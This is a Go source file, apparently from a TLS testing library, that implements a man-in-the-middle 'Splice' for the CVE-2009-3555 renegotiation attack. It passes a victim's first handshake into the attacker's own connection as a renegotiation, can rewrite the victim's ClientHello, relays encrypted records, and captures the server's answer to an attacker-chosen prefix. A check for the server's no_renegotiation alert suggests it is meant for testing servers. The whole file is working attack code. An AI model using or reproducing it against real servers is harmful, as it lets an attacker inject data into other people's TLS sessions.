package legacyclient

import (
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"time"

	"github.com/parley-tls/parley/internal/record"
	"github.com/parley-tls/parley/internal/wire"
)

// A Splice is the man in the middle of CVE-2009-3555: he lets a victim's first
// handshake through, inside a connection of his own, as a renegotiation. From
// the ChangeCipherSpecs on he understands nothing and only passes on.
type Splice struct {
	// Attacker is his connection to the server, established; the prefix was written
	// already.
	Attacker *Client
	// Victim is where the victim begins its first handshake, in clear.
	Victim net.Conn
	// Rewrite, if not nil, changes the victim's hello, which its Finished will not
	// match then; it may be tried all the same.
	Rewrite func(*wire.ClientHello)
	// Timeout limits every wait; zero: 10 seconds.
	Timeout time.Duration
}

// A Side is one end of a spliced connection.
type Side uint8

// The sides.
const (
	SideNone Side = iota // nobody: a deadline ended the splice
	SideServer
	SideVictim
)

// String names the side.
func (s Side) String() string { return [...]string{"nobody", "the server", "the victim"}[s] }

// A SplicedAlert is an alert that passed.
type SplicedAlert struct {
	From      Side
	Level     wire.AlertLevel
	Alert     wire.Alert
	Encrypted bool // under the victim's keys: Level and Alert are unknown
}

// Passed is what went one way.
type Passed struct {
	Messages []wire.MessageType // in clear, before ChangeCipherSpec
	Changed  bool               // ChangeCipherSpec passed
	// After ChangeCipherSpec, as far as record headers tell: Handshake counts the
	// records with Finished and what may follow it, Data those with application
	// data, DataBytes the bytes in these, protection included.
	Handshake, Data, DataBytes int
}

// A Spliced is what came of a splice.
type Spliced struct {
	Hello    *wire.ClientHello // as the server got it
	ToServer Passed
	ToVictim Passed
	// AttackerData is what the server answered to the prefix, under the attacker's
	// keys.
	AttackerData []byte
	Alerts       []SplicedAlert
	EndedBy      Side // who sent the first fatal alert or ended the connection
}

// Complete reports whether the handshake went through: both sides' Finished
// passed, and the client's data may follow the prefix.
func (s *Spliced) Complete() bool { return s.ToServer.Handshake > 0 && s.ToVictim.Handshake > 0 }

// Refused reports whether the server warned no_renegotiation.
func (s *Spliced) Refused() bool {
	for _, a := range s.Alerts {
		if a.From == SideServer && !a.Encrypted && a.Alert == wire.AlertNoRenegotiation {
			return true
		}
	}
	return false
}

// Run splices until one side ends it or a deadline passes. It leaves both
// connections to be closed by the caller. The error is one of the splice itself.
func (s *Splice) Run() (*Spliced, error) {
	if s.Attacker.state.Handshakes == 0 {
		return nil, errors.New("the attacker's own handshake is not complete")
	}
	if s.Timeout == 0 {
		s.Timeout = 10 * time.Second
	}
	r := &splicing{Splice: s}
	var both sync.WaitGroup
	both.Go(func() { r.pump(SideVictim, r.fromVictim) })
	both.Go(func() { r.pump(SideServer, r.fromServer) })
	both.Wait()
	_ = s.Attacker.SetReadDeadline(time.Time{})
	_ = s.Victim.SetReadDeadline(time.Time{})
	return &r.result, r.err
}

// splicing is a splice under way.
type splicing struct {
	*Splice
	in []byte // from the victim; only the goroutine that reads it

	sync.Mutex // guards what follows
	result     Spliced
	ended      bool
	err        error
}

// pump passes on what comes from one side until that side, or the splice, ends.
func (r *splicing) pump(from Side, one func() error) {
	for {
		err := one()
		if err == nil {
			continue
		}
		var b blamed
		if errors.As(err, &b) {
			from = b.side
		}
		r.end(from, err)
		return
	}
}

// A blamed error is not the fault of the side that was read from.
type blamed struct {
	side Side // SideNone: of neither
	error
}

func blame(side Side, err error) error {
	if err == nil {
		return nil
	}
	return blamed{side, err}
}

// end stops the other direction, too.
func (r *splicing) end(by Side, err error) {
	r.Lock()
	defer r.Unlock()
	if !r.ended && by == SideNone {
		r.err = err
	}
	if !r.ended && !isTimeout(err) && r.result.EndedBy == SideNone {
		r.result.EndedBy = by
	}
	r.ended = true
	now := time.Now()
	_ = r.Attacker.SetReadDeadline(now)
	_ = r.Victim.SetReadDeadline(now)
}

// fromVictim passes one record on to the server.
func (r *splicing) fromVictim() error {
	h, rec, err := r.victimRecord()
	if err != nil {
		return err
	}
	if r.result.ToServer.Changed {
		r.count(&r.result.ToServer, SideVictim, h)
		return blame(SideServer, r.Attacker.WriteRaw(rec))
	}
	payload := rec[wire.RecordHeaderLen:]
	if h.Type == wire.TypeHandshake && r.result.Hello == nil {
		if payload, err = r.hello(payload); err != nil {
			return err
		}
	}
	r.read(&r.result.ToServer, SideVictim, h.Type, payload)
	return blame(SideServer, r.Attacker.WriteRecordVersion(h.Type, h.Version, payload))
}

// hello gives the victim's hello as the server shall get it.
func (r *splicing) hello(payload []byte) ([]byte, error) {
	hello, err := wire.ParseClientHello(payload)
	if err != nil {
		return nil, blame(SideNone, fmt.Errorf("the victim's first record is not one whole ClientHello: %w", err))
	}
	if r.Rewrite != nil {
		hello = hello.Clone()
		r.Rewrite(hello)
		hello.Raw = hello.Marshal()
	}
	r.Lock()
	defer r.Unlock()
	r.result.Hello = hello
	return hello.Raw, nil
}

func (r *splicing) victimRecord() (wire.RecordHeader, []byte, error) {
	for {
		h, rec, ok, err := record.Next(r.in)
		if err != nil {
			return h, nil, err
		}
		if ok {
			r.in = r.in[len(rec):]
			return h, rec, nil
		}
		if err := r.fillFromVictim(); err != nil {
			return h, nil, err
		}
	}
}

func (r *splicing) fillFromVictim() error {
	r.Lock()
	over := r.ended
	if !over {
		_ = r.Victim.SetReadDeadline(time.Now().Add(r.Timeout))
	}
	r.Unlock()
	if over {
		return io.EOF
	}
	room := make([]byte, 32<<10)
	n, err := r.Victim.Read(room)
	r.in = append(r.in, room[:n]...)
	if n > 0 {
		return nil
	}
	return err
}

// fromServer passes one record on to the victim.
func (r *splicing) fromServer() error {
	if r.result.ToVictim.Changed {
		h, rec, err := r.Attacker.rawRecord()
		if err != nil {
			return err
		}
		r.count(&r.result.ToVictim, SideServer, h)
		return r.toVictim(rec)
	}
	rec, err := r.Attacker.ReadRecord()
	if err != nil {
		return err
	}
	switch {
	case rec.Type == wire.TypeApplicationData:
		r.Lock()
		defer r.Unlock()
		r.result.AttackerData = append(r.result.AttackerData, rec.Payload...)
		return nil
	case rec.Type == wire.TypeHandshake && string(rec.Payload) == string(wire.HelloRequest()):
		return nil // asked of the attacker
	}
	r.read(&r.result.ToVictim, SideServer, rec.Type, rec.Payload)
	h := wire.RecordHeader{Type: rec.Type, Version: rec.Version, Length: len(rec.Payload)}
	return r.toVictim(append(h.Append(nil), rec.Payload...))
}

func (r *splicing) toVictim(b []byte) error {
	_ = r.Victim.SetWriteDeadline(time.Now().Add(r.Timeout))
	_, err := r.Victim.Write(b)
	return blame(SideVictim, err)
}

// read notes a record that is in clear to the attacker.
func (r *splicing) read(p *Passed, from Side, t wire.ContentType, payload []byte) {
	r.Lock()
	defer r.Unlock()
	switch t {
	case wire.TypeChangeCipherSpec:
		p.Changed = true
	case wire.TypeHandshake:
		types, _ := new(describer).handshake(payload)
		p.Messages = append(p.Messages, types...)
	case wire.TypeAlert:
		level, alert, _ := parseAlert(payload)
		r.alert(SplicedAlert{From: from, Level: level, Alert: alert})
	}
}

// count notes a record under the victim's keys.
func (r *splicing) count(p *Passed, from Side, h wire.RecordHeader) {
	r.Lock()
	defer r.Unlock()
	switch h.Type {
	case wire.TypeHandshake:
		p.Handshake++
	case wire.TypeApplicationData:
		p.Data++
		p.DataBytes += h.Length
	case wire.TypeAlert:
		r.alert(SplicedAlert{From: from, Encrypted: true})
	}
}

func (r *splicing) alert(a SplicedAlert) {
	r.result.Alerts = append(r.result.Alerts, a)
	if fatal := a.Level == wire.LevelFatal || a.Encrypted; fatal && !r.ended && r.result.EndedBy == SideNone {
		r.result.EndedBy = a.From
	}
}
